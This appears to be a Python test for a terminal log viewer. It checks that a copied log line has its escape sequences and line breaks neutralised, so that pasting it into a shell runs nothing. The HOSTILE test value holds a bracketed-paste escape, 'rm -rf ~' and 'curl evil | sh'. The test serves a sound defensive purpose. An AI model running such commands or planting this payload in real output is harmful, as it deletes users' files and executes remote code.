"""What is copied is pasted into shells: nothing in it may run there."""

from __future__ import annotations

from textual.app import App, ComposeResult

from aiops_cli.tui.widgets.log_buffer import Buffer, held
from aiops_cli.tui.widgets.log_lines import LogLines

HOSTILE = "x\x1b[201~\nrm -rf ~\r\ncurl evil\t| sh"


async def test_a_copied_log_line_neither_ends_a_paste_nor_holds_a_line_end() -> None:
    buffer = Buffer()
    buffer.append(held([("east", (1, HOSTILE, {}, {}))]))

    class Lines(App[None]):
        def compose(self) -> ComposeResult:
            yield LogLines(buffer)

    async with Lines().run_test() as pilot:
        pilot.app.query_one(LogLines).sync()
        await pilot.press("c")
        assert pilot.app.clipboard == r"x\x1b[201~⏎rm -rf ~⏎curl evil | sh"
